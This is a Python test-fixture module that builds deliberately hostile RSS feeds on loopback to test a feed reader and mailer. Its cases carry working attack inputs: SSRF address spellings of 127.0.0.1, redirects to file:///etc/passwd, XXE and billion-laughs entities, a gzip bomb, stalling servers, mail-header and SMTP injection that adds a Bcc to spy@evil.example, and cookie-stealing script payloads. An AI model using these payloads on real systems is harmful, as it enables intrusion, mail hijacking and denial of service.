"""Feeds that want to harm whoever reads them, on loopback; all stories are invented.

Each is a case: what its server answers, in which state its feed has to be and why, and which of its
titles have to be mailed. `tests/gauntlet` runs the larger collection that the project shares.
"""

import asyncio
import gzip
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from xml.sax.saxutils import escape

from loopback import Answer, Loopback, Request, an_answer

CANARY = "Arvenia canary of an address that is guarded"
SPY = "spy@evil.example"
# Articles of entries with a page, under titles of their own: a thief's entry shows their text too.
PAGES = {
    **{f"/victim/{number}": f"Arvenia page of victim {number}" for number in (1, 2, 3)},
    **{f"/one-guid/{number}": f"Arvenia page of one-guid {number}" for number in (1, 2)},
    "/guid-churn/1": "Arvenia page of guid-churn",
    "/link-churn/1": "Arvenia page of link-churn",
}
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nTransfer-Encoding: chunked\r\n\r\n"


@dataclass(frozen=True)
class Case:
    """One hostile feed."""

    name: str
    answer: Answer
    state: str = "ok"  # empty: well or not, but not unread
    reason: str = ""  # a pattern for the error, where it fails
    titles: tuple[str, ...] = ()  # what every reader has to be told, once
    address: str = ""  # where it is not on the desk's own server


def title(name: str, number: int = 1) -> str:
    """Return the title of a story that a case publishes."""
    return f"Arvenia report {name} {number}"


def story(
    name: str,
    number: int = 1,
    *,
    link: str = "",
    guid: str | None = None,
    heading: str | None = None,
    more: str = "",
) -> str:
    """Return an item; `heading` and `more` are XML as it stands."""
    shown = title(name, number) if heading is None else heading
    marks = f"<guid isPermaLink='false'>{name}-{number}</guid>" if guid is None else guid
    return (
        f"<item><title>{shown}</title><link>{link}</link>{marks}"
        f"<description>Nobody was there, in short.</description>{more}</item>"
    )


def document(*items: str, before: str = "", encoding: str = "utf-8", written_in: str = "") -> bytes:
    """Return an RSS document that says `encoding`; `written_in` is the true one."""
    whole = (
        f'<?xml version="1.0" encoding="{encoding}"?>{before}<rss version="2.0"><channel>'
        f"<title>Invented</title>{''.join(items)}</channel></rss>"
    )
    return whole.encode(written_in or "utf-8", "surrogatepass")


def feed(*items: str, **headers: str) -> bytes:
    """Return the answer with a document of these items."""
    return an_answer(document(*items), Content_Type="application/rss+xml", **headers)


def canary() -> str:
    """Return the item that nobody may ever fetch."""
    return story("canary", heading=CANARY)


def a_redirect(target: str) -> bytes:
    """Return the answer that sends to `target`."""
    return an_answer(b"", "302 Found", Location=target)


def spelled(guarded: Loopback) -> dict[str, str]:
    """Return the address of a server that is not allowed, in the ways that have fooled guards."""
    port = guarded.port
    return {
        "plain": f"http://127.0.0.1:{port}/",
        "decimal": f"http://2130706433:{port}/",
        "hexadecimal": f"http://0x7f000001:{port}/",
        "octal": f"http://0177.0.0.1:{port}/",
        "short": f"http://127.1:{port}/",
        "zero": f"http://0.0.0.0:{port}/",
        "mapped": f"http://[::ffff:127.0.0.1]:{port}/",
        "name": f"http://localhost:{port}/",
        "full-width": f"http://１２７.0.0.1:{port}/",
        "user": f"http://news.example@127.0.0.1:{port}/",
        "no-scheme": f"//127.0.0.1:{port}/",
    }


async def drip(_: Request, writer: asyncio.StreamWriter) -> None:
    """A byte now and then, for ever."""
    writer.write(HEAD)
    while True:
        await _chunk(writer, b" ")
        await asyncio.sleep(0.2)


async def silence(_: Request, __: asyncio.StreamWriter) -> None:
    """No answer at all."""
    await asyncio.sleep(300)


async def endless_body(_: Request, writer: asyncio.StreamWriter) -> None:
    """Items without an end, as fast as they are taken."""
    writer.write(HEAD)
    items = "".join(story("endless", number) for number in range(1000)).encode()
    await _chunk(writer, b'<rss version="2.0"><channel>')
    while True:
        await _chunk(writer, items)


async def endless_head(_: Request, writer: asyncio.StreamWriter) -> None:
    """Header lines without an end."""
    writer.write(b"HTTP/1.1 200 OK\r\n")
    while True:
        writer.write(b"X-More: " + b"a" * 8000 + b"\r\n")
        await writer.drain()


async def half(_: Request, writer: asyncio.StreamWriter) -> None:
    """Half of what was announced."""
    whole = feed(*(story("half", number) for number in range(20)))
    writer.write(whole[: len(whole) // 2])


async def _chunk(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(b"%x\r\n" % len(data) + data + b"\r\n")
    await writer.drain()


def changing(make: Callable[[int], bytes]) -> Answer:
    """Return an answer that `make` writes anew for each request, counted from 1."""
    count = 0

    async def answer(_: Request, writer: asyncio.StreamWriter) -> None:
        nonlocal count
        count += 1
        writer.write(make(count))

    return answer


def network(guarded: Loopback) -> Iterable[Case]:
    """Give the servers that misbehave."""
    late = "no complete answer within"
    bomb = gzip.compress(document() + b" " * 100_000_000)
    yield Case("drip", drip, "unreachable", late)
    yield Case("silence", silence, "unreachable", late)
    yield Case("endless-body", endless_body, "unreachable", "bytes")
    yield Case("endless-head", endless_head, "unreachable", "headers|over the wire")
    yield Case("half", half, "unreachable", "before the answer was complete")
    packed = an_answer(bomb, Content_Encoding="gzip")
    yield Case("bomb", packed, "unreachable", "once decompressed")
    cut = an_answer(gzip.compress(document(story("cut")))[:-20], Content_Encoding="gzip")
    yield Case("cut", cut, "unreachable", "compressed body stops")
    yield Case("circle", a_redirect("/circle"), "unreachable", "in a circle")
    yield Case("script-scheme", a_redirect("javascript:alert(1)"), "unreachable", r"no http\(s\)")
    yield Case("file-scheme", a_redirect("file:///etc/passwd"), "unreachable", r"no http\(s\)")
    for name, address in spelled(guarded).items():
        where = address.encode().decode("latin-1")
        reason = r"address guard|no http\(s\) address"
        yield Case(f"guarded-{name}", a_redirect(where), "unreachable", reason)
    tracked = feed(story("cookies"), Set_Cookie="id=reader-4711; Path=/; Max-Age=99999999")
    yield Case("cookies", tracked, titles=(title("cookies"),))


def documents(guarded: Loopback) -> Iterable[Case]:
    """Give the documents that attack whoever parses them."""
    there = guarded.url()
    no_feed = "not-a-feed"
    yield Case("path", an_answer(b"/etc/passwd"), no_feed, ".")
    yield Case("address", an_answer(there.encode()), no_feed, ".")
    yield Case("empty-body", an_answer(b""), no_feed, ".")
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    laughs = document(
        story("laughs", more="<category>&a9;</category>"), before=f"<!DOCTYPE rss [{entities}]>"
    )
    yield Case("laughs", an_answer(laughs), no_feed, "entities grow")
    outside = f'<!DOCTYPE rss SYSTEM "{there}" [<!ENTITY % p SYSTEM "{there}"> %p;]>'
    loaded = an_answer(document(story("outside"), before=outside))
    yield Case("outside", loaded, titles=(title("outside"),))
    nested = feed(story("deep", more="<a>" * 30_000 + "</a>" * 30_000))
    yield Case("deep", nested, no_feed, "nest more than")
    flood = "<category>c</category>" * 40_000
    yield Case("categories", feed(story("categories", more=flood)), titles=(title("categories"),))
    for codec in ("idna", "punycode", "unicode_escape", "zlib", "undefined", "utf-7"):
        tricked = document(story(codec, more="a" * 100_000 + "-" + "z" * 100_000), encoding=codec)
        yield Case(f"codec-{codec}", an_answer(tricked), titles=(title(codec),))
    heading = f"{title('wide')} задержание"
    wide = document(story("wide", heading=heading), encoding="UTF-16", written_in="utf-16")
    yield Case("wide", an_answer(wide), titles=(heading,))
    heading = f"{title('old')} задержание"
    old = document(story("old", heading=heading), encoding="windows-1251", written_in="cp1251")
    yield Case("old-encoding", an_answer(old), titles=(heading,))
    yield Case(
        "huge-guid",
        feed(story("huge-guid", guid=f"<guid isPermaLink='false'>{'g' * 500_000}</guid>")),
        titles=(title("huge-guid"),),
    )
    heading = f"{title('huge-title')} {'T' * 500_000}"
    yield Case(
        "huge-title", feed(story("huge-title", heading=heading)), titles=(title("huge-title"),)
    )


def texts(guarded: Loopback) -> Iterable[Case]:
    """Give the titles, links and summaries that attack the mail and its reader."""
    there = guarded.url().rstrip("/")
    tricks = {
        "surrogate": "&#xD800;&#xDFFF; x",
        "controls": "&#x9;&#x85;&#x9b;31mRED&#x2028;Z",
        "terminal": "\u241b[2J&#x9b;31m",
        "bidi": "invoice\u202efdp.exe \u2066\u2067x",
        "header": f"X&#13;&#10;Bcc: {SPY}&#13;&#10;X-Injected: 1",
        "encoded-word": "=?utf-8?q?Hi=0D=0ABcc=3A_spy=40evil.example?=",
        "smuggled": f"a&#13;&#10;.&#13;&#10;MAIL FROM:&lt;a@b.c&gt;&#13;&#10;RCPT TO:&lt;{SPY}",
        "script": "<![CDATA[<script>alert(document.cookie)</script>]]>",
        "template": "{{7*7}} ${7*7} %(a)s {0.__class__}",
    }
    for name, trick in tricks.items():
        heading = f"{title(name)} {trick}"
        yield Case(name, feed(story(name, heading=heading)), titles=(title(name),))
    markup = {
        "pixel": f'<img src="{there}/pixel.gif?reader=1" width=1 height=1>',
        "style": f"<style>@import url({there}/x.css);</style>"
        f'<div style="background:url({there}/b.png)">x</div>',
        "frame": f'<iframe src="{there}/"></iframe><object data="{there}/"></object>',
        "form": f'<form action="{there}/"><input name=p><button>Log in</button></form>',
        "drawing": f'<svg onload=alert(1)><image href="{there}/s.png"/></svg>',
        "unclosed": '</div></td></table></body></html><!-- <div style="display:none">',
    }
    for name, html in markup.items():
        content = f"<description>{escape(html)}</description>"
        yield Case(name, feed(story(name, more=content)), titles=(title(name),))
    links = {
        "link-script": "javascript:alert(1)//http://x",
        "link-data": "data:text/html;base64,PHNjcmlwdD4=",
        "link-file": "file:///etc/passwd",
        "link-quote": "http://127.0.0.1:9/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        "link-guarded": f"{there}/page",
        "link-broken": "http://[::1/x",
    }
    for name, link in links.items():
        yield Case(name, feed(story(name, link=link)), titles=(title(name),))


def identities(server: Loopback) -> Iterable[Case]:
    """Give a feed, those that try to have it taken for told already, and those that change."""
    true = [title("victim", number) for number in range(1, 4)]
    pages = [server.url(f"/victim/{number}") for number in range(1, 4)]
    # First of all by name, and so the first to be read: the same guids, the same permalinks.
    guids = [f"<guid isPermaLink='false'>victim-{number}</guid>" for number in range(1, 4)]
    thief = feed(
        *(
            story("thief", number, link=page, guid=guid)
            for number, (page, guid) in enumerate(zip(pages, guids, strict=True), 1)
        )
    )
    yield Case("a-thief", thief, titles=tuple(title("thief", number) for number in range(1, 4)))
    yield Case(
        "victim",
        feed(*(story("victim", number, link=page) for number, page in enumerate(pages, 1))),
        titles=tuple(true),
    )
    one_guid = "<guid isPermaLink='false'>the same</guid>"
    same = (
        story("one-guid", number, guid=one_guid, link=server.url(f"/one-guid/{number}"))
        for number in (1, 2)
    )
    yield Case("one-guid", feed(*same), titles=(title("one-guid", 1), title("one-guid", 2)))
    yield Case(
        "guid-churn",
        changing(
            lambda count: feed(
                story(
                    "guid-churn",
                    guid=f"<guid isPermaLink='false'>churn-{count}</guid>",
                    link=server.url("/guid-churn/1"),
                )
            )
        ),
        titles=(title("guid-churn"),),
    )
    yield Case(
        "link-churn",
        changing(
            lambda count: feed(
                story(
                    "link-churn",
                    guid="",
                    link=server.url(f"/link-churn/1?utm_source={count}&amp;fbclid=z{count}"),
                )
            )
        ),
        titles=(title("link-churn"),),
    )
    yield Case("nothing", feed(*("<item></item>" for _ in range(5))), "", "")
